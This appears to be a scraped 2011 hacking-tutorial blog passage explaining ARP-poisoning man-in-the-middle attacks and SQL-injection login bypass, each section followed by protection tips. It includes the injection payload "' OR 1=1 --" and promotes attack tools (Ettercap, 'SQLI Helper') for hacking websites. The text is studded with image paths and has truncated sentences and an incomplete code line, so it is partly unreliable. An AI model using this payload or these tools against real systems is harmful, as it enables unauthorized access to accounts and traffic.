The hacker wants to see all the traffic between your computer,, and your Internet router, The hacker begins by sendinga malicious ARP "reply" (for which there was no previous request) to your router, associating his computer's MAC address with

Attack Stage-2:

Now your router thinks the hacker's computer is your computer. Next, the hackersends a malicious ARP reply to your computer, associating his MAC Address with

Attack Stage-3:

Now your machine thinks the hacker's computer is your router. Finally, the hacker turns on an operating system feature called IP forwarding. This feature enables the hacker's machine to forward any network traffic it receives from your computer to the router.

  • ARP Poisoning Tool:
Ettercap is a suite for man in the middle attacks on LAN. It features sniffing of live connections, content filtering on the fly and many other interesting tricks. It supports active and passive dissection of many protocols and includes many feature for network and host analysis.Download ETTERCAP from here.

  • Protection:
1. Arpwatch is a computer software tool for monitoring Address Resolution Protocol traffic on a computer network. Network administrators monitor ARP activity to detect ARP spoofing.

2. Arping is a computer software tool that is used to discover hosts on a computer network. The arping tool is analogous in function to ping, which probes hosts using the Internet Control Message Protocol at the Internet Layer (OSI Layer 3).

3. Capsa Network Analyzer (Packet Sniffer) is an easy-to-use Ethernet network analyzer (aka. packet sniffer or protocol analyzer) for network monitoring and troubleshooting purposes.Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...

Sunday, January 2, 2011


  • What is SQL Injection?
A SQL injection or SQLI attack consists of injection of a SQL query via the input data from the client to the application. A successful SQL injection exploit can read sensitive data from the database, modify database data (Insert/Update/Delete), execute administration operations on thedatabase, recover the content of a given file present on the DBMS file system and in some cases issue commands to the operating system.

A web application is vulnerable to an SQL injection attack if an attacker is able to insert SQL statements into an existing SQL query of the application. This is usually achieved by injecting malicious input into user fields that are used to compose the query.

  • SQLI Example:
Consider a web application that uses a query shown in Step 1 for authenticating its users.

SQL Injection Step 1:

SELECT * FROM Users WHERE User = 'john' AND Password = 'doe'

This query retrieves the ID and LastLogin fields of user john with password doe from table Users. In this example, a login page prompts the user to enter her username and password into a form. When the form is submitted, its fields are used to construct an SQL query shown in Step 2 that authenticates the user.

SQL Injection Step 2:

sqlQuery = "SELECT * FROM Users WHERE User = '$username' AND Password = '$password'"

If the login application does not perform correct input validation of the form fields, the attacker can inject strings into the query that alter its semantics. For example, consider an attacker entering user credentials such as the ones shown in Step 3.

SQL Injection Step 3:

User: ' OR 1=1 --
Password: anything

Using the provided form data, the vulnerable web application constructs a dynamic SQL query for authenticating the user as shown in Step4.

SQL Injection Step 4:

SELECT * FROM Users WHERE User = '' OR 1=1 -- ' AND Password = 'anything'

The "--"command indicates a comment in Transact-SQL. Hence, everything after the first "--" is ignored by the SQL database engine. With the help of the first quote in the input string, the user name string is closed, while the '' OR 1=1 adds a clause to the query which evaluates to true for every row in the table. When executing this query, the database returns all user rows, which applications often interpret as a valid login.

  • SQLI Helper:
SQLI Helper is handy software to hack website by injecting SQL queryto the database.

Download SQLI Helper from here.

  • Protection:
1. Web application developers need to consider malicious input data and sanitize it properly before using it to construct dynamically generated SQL queries.

2. A straight-forward, though error-prone, way to prevent injections is to escape characters that have a special meaning in SQL. In PHP, for example, it is usual to escape parameters using the function mysql_real_escape_string(); before sending the SQL query:

$query = sprintf("SELECT * FROM 'Users' WHERE UserName='%s' AND Password='%s'",

3.Another way of helpingdevelopers is to implement user data encoding within the webserver application environment. For example, Microsoft implemented such security checks in their .NET framework.

HappyHacking...Enjoy...

Foreducational purpose only...Do not misuse it...